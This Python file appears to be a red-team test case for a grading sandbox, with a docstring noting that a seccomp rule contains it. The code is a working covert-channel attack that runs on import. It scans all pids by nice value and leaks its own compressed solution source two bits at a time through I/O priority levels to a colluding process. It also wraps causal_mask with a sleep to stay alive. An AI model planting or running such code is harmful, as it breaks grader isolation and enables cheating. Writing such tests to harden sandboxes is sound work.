"""Red team 7 (a solution handed to a classmate through scheduling values, the basic mode): without a PID
namespace every process of the machine is within reach of getpriority and ioprio_get, which need no
permission. This worker compresses its (correct) source, without docstrings, and shows it 2 bits at a time
(plus a toggle bit) in its own I/O priority level, marked with nice 17 so that a classmate graded at the same
time finds it among all pids; the classmate acknowledges each symbol in its own I/O priority. Stays alive a
while. Contained since: another pid's priority, nice value, CPUs, scheduling policy, session and process
group cannot be read (seccomp.OWN_PROCESS_ONLY).

base: clean
class: 1
run: main
"""

import ast as _ast
import ctypes as _ctypes
import linecache as _linecache
import os as _os
import threading as _threading
import time as _time
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_IOPRIO_GET, _IOPRIO_SET, _WHO_PROCESS, _BEST_EFFORT = 252, 251, 1, 2  # x86_64


def _level(pid):
    value = _libc.syscall(_ctypes.c_long(_IOPRIO_GET), _ctypes.c_long(_WHO_PROCESS), _ctypes.c_long(pid))
    return -1 if value < 0 else value & 7


def _show(level):
    _libc.syscall(_ctypes.c_long(_IOPRIO_SET), _ctypes.c_long(_WHO_PROCESS), _ctypes.c_long(0),
                  _ctypes.c_long((_BEST_EFFORT << 13) | level))


def _nice_of(pid):
    try:
        return _os.getpriority(_os.PRIO_PROCESS, pid)
    except OSError:
        return None


def _find(nice, skip):
    for pid in range(2, 1 << 15):
        if pid != skip and _nice_of(pid) == nice:
            return pid
    return 0


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _solution_only(text):
    """The exercise's definitions, without docstrings, and none of this attack's own code."""
    tree = _ast.parse(text)
    kept = []
    for node in tree.body:
        if isinstance(node, (_ast.Import, _ast.ImportFrom)) and not any(
                alias.name.startswith(("ctypes", "threading", "linecache", "ast", "zlib")) for alias in node.names):
            kept.append(node)
        elif isinstance(node, (_ast.FunctionDef, _ast.ClassDef)) and not node.name.startswith("_") and \
                node.name != "causal_mask" or (isinstance(node, _ast.FunctionDef) and node.name == "causal_mask"
                                               and "_slept" not in _ast.unparse(node)):
            for inner in [node] + [child for child in _ast.walk(node) if isinstance(child, _ast.FunctionDef)]:
                if inner.body and isinstance(inner.body[0], _ast.Expr) and isinstance(
                        getattr(inner.body[0], "value", None), _ast.Constant) and len(inner.body) > 1:
                    inner.body = inner.body[1:]
            kept.append(node)
    return _ast.unparse(_ast.Module(body=kept, type_ignores=[]))


def _broadcast(message):
    symbols = [(byte >> shift) & 3 for byte in len(message).to_bytes(4, "big") + message for shift in (6, 4, 2, 0)]
    me = _threading.get_native_id()
    if _find(17, me):  # another worker of this file already shows it
        return
    try:
        _os.setpriority(_os.PRIO_PROCESS, 0, 17)
    except OSError:
        return
    _show(0)
    deadline = _time.time() + 20
    while _time.time() < deadline:
        reader = _find(13, me)
        if not reader or _level(reader) != 4:
            _time.sleep(0.01)
            continue
        toggle = 1
        for symbol in symbols:
            _show(toggle * 4 + symbol)
            waited = _time.time() + 2
            while _level(reader) != toggle and _time.time() < waited:
                _os.sched_yield()
            toggle ^= 1
        _show(0)
        _time.sleep(0.02)


class _AtLoad:
    _thread = _threading.Thread(target=_broadcast, args=(_zlib.compress(_solution_only(_own_source()).encode(), 9),),
                                daemon=True)
    _thread.start()


_kept_causal_mask = causal_mask  # noqa: F821 (the base defines it)
_slept = []


def causal_mask(*args, **kwargs):  # stay alive a while, once, so that classmates have time to read
    if not _slept:
        _slept.append(1)
        _time.sleep(3.0)
    return _kept_causal_mask(*args, **kwargs)
